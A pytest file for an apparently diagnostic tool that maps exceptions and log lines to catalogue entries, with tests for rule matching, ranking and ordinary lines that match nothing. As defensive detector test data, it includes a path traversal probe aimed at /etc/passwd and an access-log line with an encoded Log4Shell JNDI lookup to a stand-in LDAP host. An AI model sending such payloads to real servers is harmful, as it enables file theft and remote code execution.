"""How match rules combine, how diagnoses rank, and what must match nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from faultlens.knowledge import Evidence, ExceptionEvidence, default_catalogue, match
from tests.knowledge.samples import event_from_text

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "traces"


def ids(evidence: Evidence) -> list[str]:
    return [d.id for d in match(evidence)]


def exc(type_name: str, value: str = "", frames: tuple[str, ...] = ()) -> ExceptionEvidence:
    simple = type_name.replace("::", ".").rsplit(".", 1)[-1]
    return ExceptionEvidence(qualified=type_name, simple=simple, value=value, frames=frames)


def test_a_bare_type_name_matches_any_module() -> None:
    """`KeyError` in a rule matches a KeyError whatever module qualifies it."""
    assert ids(Evidence(exceptions=(exc("builtins.KeyError", "'sku'"),)))[0] == "python-key-error"


def test_a_qualified_type_name_needs_the_same_qualification() -> None:
    """`redis.exceptions.ConnectionError` does not match the builtin ConnectionError."""
    assert "redis-connection-error" not in ids(Evidence(exceptions=(exc("ConnectionError", "boom"),)))
    found = ids(Evidence(exceptions=(exc("redis.exceptions.ConnectionError", "boom"),)))
    assert found[0] == "redis-connection-error"


def test_type_and_message_must_hold_on_the_same_exception() -> None:
    """A rule with types and messages needs one exception that satisfies both."""
    split = Evidence(exceptions=(exc("ValueError", "'NoneType' object has no attribute 'x'"),
                                 exc("AttributeError", "'Order' object has no attribute 'x'")))
    assert "python-none-attribute" not in ids(split)
    joined = Evidence(exceptions=(exc("AttributeError", "'NoneType' object has no attribute 'x'"),))
    assert ids(joined)[0] == "python-none-attribute"


def test_frames_narrow_a_type() -> None:
    """A KeyError raised from os.environ is the missing-environment entry, not the generic KeyError."""
    environ = Evidence(exceptions=(exc("KeyError", "'DATABASE_URL'", ("__getitem__ <frozen os>",)),))
    assert ids(environ)[:2] == ["python-missing-environ", "python-key-error"]


def test_message_rules_also_read_plain_log_lines() -> None:
    """Without an exception chain, message rules search the log message."""
    line = "2026-01-01 ERROR upstream: dial tcp 10.0.0.7:5432: connect: connection refused"
    assert ids(Evidence(message=line))[0] == "connection-refused"


def test_status_rules_read_the_http_status() -> None:
    """A 429 response is diagnosed from its status alone."""
    assert ids(Evidence(http_status=429))[0] == "http-rate-limited"


def test_path_rules_read_the_request_path() -> None:
    """Traversal sequences in the request path are diagnosed as a probe."""
    assert ids(Evidence(http_path="/files/..%2f..%2fetc/passwd", http_status=404))[0] == "path-traversal-probe"


def test_signals_from_analyzers_are_evidence() -> None:
    """An analyzer's repeated-query signal maps to the N+1 entry."""
    evidence = Evidence(message="GET /orders").with_signals(["repeated-query-template"])
    assert ids(evidence)[0] == "n-plus-one-queries"


def test_a_spike_signal_strengthens_the_auth_diagnosis() -> None:
    """A 401 with the status-spike signal scores higher than a lone 401."""
    lone = match(Evidence(http_status=401))[0]
    spike = match(Evidence(http_status=401, signals=frozenset({"status-spike"})))[0]
    assert lone.id == spike.id == "http-auth-failures"
    assert spike.score > lone.score and "signal status-spike" in spike.reasons


def test_a_narrower_entry_outranks_the_one_it_refines() -> None:
    """An expired certificate is both untrusted and expired; the expiry entry wins."""
    line = "Get \"https://x\": x509: certificate has expired or is not yet valid: current time is after"
    found = ids(Evidence(message=line))
    assert found[0] == "tls-certificate-expired"


def test_runtime_entries_skip_other_runtimes() -> None:
    """A Ruby KeyError is not given the Python KeyError entry."""
    ruby = Evidence(exceptions=(exc("KeyError", "key not found: :region"),), platform="ruby")
    assert "python-key-error" not in ids(ruby)
    python = Evidence(exceptions=(exc("KeyError", "'region'"),), platform="python")
    assert ids(python)[0] == "python-key-error"


def test_diagnoses_are_ranked_and_explained() -> None:
    """Diagnoses come best first, each with the rule items that fired."""
    diagnoses = match(Evidence(exceptions=(exc("redis.exceptions.ConnectionError",
                                               "Error 111 connecting to 127.0.0.1:6379. Connection refused."),),
                               platform="python"))
    scores = [d.score for d in diagnoses]
    assert scores == sorted(scores, reverse=True)
    assert [d.id for d in diagnoses][:2] == ["redis-connection-error", "connection-refused"]
    assert "type redis.exceptions.ConnectionError" in diagnoses[0].reasons
    assert diagnoses[0].fix.code and diagnoses[0].runbook and diagnoses[0].monitoring.alert


@pytest.mark.parametrize("line", [
    "2026-01-01T10:00:00Z INFO  http GET /health 200 1.2ms",
    "Started OrderServiceApplication in 3.214 seconds (process running for 3.9)",
    "user 42 logged in from 203.0.113.7",
    "cache warmed: 1200 keys in 85 ms",
    "Scheduled job nightly-report finished: 0 failures",
    "Listening on http://0.0.0.0:8080",
    "GET /api/orders?page=2 HTTP/1.1 200 512",
    "Connection pool initialised with 10 connections",
])
def test_ordinary_lines_match_nothing(line: str) -> None:
    """Routine info lines produce no diagnosis."""
    assert match(Evidence(message=line)) == []


@pytest.mark.parametrize("text", [
    "Traceback (most recent call last):\n  File \"/srv/app/parse.py\", line 3, in <module>\n"
    "    int(\"abc\")\nValueError: invalid literal for int() with base 10: 'abc'",
    "PaymentGatewayError: upstream returned code 7 for order 1234",
    "Exception in thread \"main\" java.lang.IllegalStateException: order already shipped\n"
    "\tat com.shop.Orders.ship(Orders.java:42)",
    "WARN  retrying send to billing (attempt 2 of 5)",
])
def test_unrelated_errors_match_nothing(text: str) -> None:
    """Errors the catalogue knows nothing about produce no diagnosis rather than a wrong one."""
    assert match(Evidence.from_event(event_from_text(text))) == []


VARIANTS = [
    # produced here: go 1.19 net.Dial to a closed port
    ("2026/12/01 23:21:42 connect to ledger: dial tcp 127.0.0.1:9: connect: connection refused", "connection-refused"),
    # produced here: python 3.11 socket.getaddrinfo for a name under .invalid
    ("socket.gaierror: [Errno -2] Name or service not known", "dns-resolution-failure"),
    # produced here: java 17 java.net.http client against a self-signed server (first lines)
    ("Exception in thread \"main\" javax.net.ssl.SSLHandshakeException: PKIX path building failed: "
     "sun.security.provider.certpath.SunCertPathBuilderException: unable to find valid certification path to "
     "requested target\n\tat java.net.http/jdk.internal.net.http.HttpClientImpl.send(HttpClientImpl.java:579)\n"
     "\tat com.shop.LedgerClient.main(LedgerClient.java:12)", "tls-untrusted-certificate"),
    # produced here: node 20 with opossum 8 after the breaker opened
    ("Error: Breaker is open\n    at buildError (/tmp/kb/node/node_modules/opossum/lib/circuit.js:1015:17)\n"
     "    at main (/tmp/kb/node/breaker.js:14:17) {\n  code: 'EOPENBREAKER'\n}", "circuit-breaker-open"),
    # resilience4j's own message format, as asserted in its CallNotPermittedExceptionTest
    ("io.github.resilience4j.circuitbreaker.CallNotPermittedException: CircuitBreaker 'backendA' is OPEN and does "
     "not permit further calls", "circuit-breaker-open"),
    # https://github.com/dotnet-architecture/eShopOnContainers/issues/278
    ("BrokenCircuitException: The circuit is now open and is not allowing calls.", "circuit-breaker-open"),
    # https://github.com/aspnetboilerplate/aspnetboilerplate/issues/2696
    ("Abp.Domain.Uow.AbpDbConcurrencyException: Database operation expected to affect 1 row(s) but actually "
     "affected 0 row(s). Data may have been modified or deleted since entities were loaded.", "ef-update-concurrency"),
    # produced here: nginx 1.22 access log
    ('127.0.0.1 - - [01/Dec/2026:23:23:23 +0000] "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%3A1389%2Fa%7D '
     'HTTP/1.1" 404 153 "-" "curl/7.88.1"', "log4shell-probe"),
]

FIXTURE_VARIANTS = [
    ("javascript/econnrefused", "connection-refused"),
    ("javascript/json_parse", "node-json-parse"),
    ("python/recursion", "python-recursion-limit"),
    ("python/key_error", "python-key-error"),
    ("python/faulthandler_crash", "native-segfault"),
    ("go/slice_bounds", "go-index-out-of-range"),
    ("go/nil_map", "go-panic"),
    ("go/divide", "division-by-zero"),
    ("dotnet/mono_divide", "division-by-zero"),
    ("ruby/zero", "division-by-zero"),
    ("php/division", "division-by-zero"),
    ("rust/divide", "division-by-zero"),
    ("native/asan_heap_overflow", "native-memory-safety"),
    ("native/asan_double_free", "native-memory-safety"),
    ("dotnet/mono_key", "dotnet-key-not-found"),
]


@pytest.mark.parametrize(("text", "expected"), VARIANTS)
def test_other_runtimes_reach_the_same_entry(text: str, expected: str) -> None:
    """The same failure printed by another runtime or library is diagnosed as the same entry."""
    assert ids(Evidence.from_event(event_from_text(text)))[0] == expected


@pytest.mark.parametrize(("name", "expected"), FIXTURE_VARIANTS)
def test_trace_corpus_cases_reach_their_entry(name: str, expected: str) -> None:
    """Traces from the stack-trace corpus are diagnosed as the entry for their failure."""
    text = (FIXTURES / f"{name}.txt").read_text(encoding="utf-8")
    assert ids(Evidence.from_event(event_from_text(text)))[0] == expected


def test_matching_hundreds_of_issues_gives_each_its_entry() -> None:
    """1000 issues matched in a row (the catalogue's samples, repeated) each reach their own entry:
    nothing cached from one issue leaks into the next."""
    patterns = default_catalogue().patterns
    samples = [(p.id, Evidence.from_event(event_from_text(p.sample.text, **p.sample.fields))) for p in patterns]
    batch = (samples * (1000 // len(samples) + 1))[:1000]
    assert [ids(evidence)[0] for _, evidence in batch] == [expected for expected, _ in batch]
